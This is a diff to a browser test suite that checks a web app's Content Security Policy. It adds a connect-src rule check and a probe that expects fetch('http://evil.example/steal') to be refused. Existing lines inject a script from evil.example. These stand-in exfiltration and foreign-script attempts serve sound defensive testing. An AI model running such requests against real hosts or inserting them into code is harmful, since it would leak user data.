@@ -94,6 +94,8 @@ describe('the built app', () => {
     expect(content).toBe(CONTENT_SECURITY_POLICY);
     expect(content).not.toContain('unsafe-inline\' \'unsafe-eval');
     expect(CONTENT_SECURITY_POLICY).toMatch(/script-src 'self' 'wasm-unsafe-eval';/);
+    // Data URLs the user types: https anywhere, plain http only on this machine (loopback).
+    expect(CONTENT_SECURITY_POLICY).toMatch(/connect-src 'self' blob: data: https: http:\/\/localhost:\* http:\/\/127\.0\.0\.1:\*;/);
     // The engine started (wasm compiled, worker running) and the overview rendered. The only refusals
     // are @stdlib's probe for generator support, eval in a try/catch, which then takes its other path.
     for (const v of await violations()) {
@@ -190,15 +192,21 @@ describe('the built app', () => {
       const foreign = document.createElement('script');
       foreign.src = 'https://evil.example/x.js';
       document.body.append(foreign);
+      // Plain http to anything but this machine may not be fetched, even by the app's own code.
+      const plainHttp = await fetch('http://evil.example/steal').then(
+        () => 'fetched',
+        () => 'refused',
+      );
       await new Promise((resolve) => setTimeout(resolve, 500));
-      return { inline: w.__csp, handler: w.__csp_handler, evalRan: w.__csp_eval, evalBlocked };
+      return { inline: w.__csp, handler: w.__csp_handler, evalRan: w.__csp_eval, evalBlocked, plainHttp };
     });
-    expect(outcome).toEqual({ inline: undefined, handler: undefined, evalRan: undefined, evalBlocked: true });
+    expect(outcome).toEqual({ inline: undefined, handler: undefined, evalRan: undefined, evalBlocked: true, plainHttp: 'refused' });
     const seen = (await violations()).slice(before).map((v) => v.what);
     expect(seen.some((v) => v.startsWith('script-src-elem inline'))).toBe(true);
     expect(seen.some((v) => v.startsWith('script-src-attr inline'))).toBe(true);
     expect(seen.some((v) => v.startsWith('script-src eval'))).toBe(true);
     expect(seen.some((v) => v.startsWith('script-src-elem https://evil.example/x.js'))).toBe(true);
+    expect(seen.some((v) => v.startsWith('connect-src http://evil.example/steal'))).toBe(true);
     injectedErrors = session.errors.length - errorsBefore;
   });
 
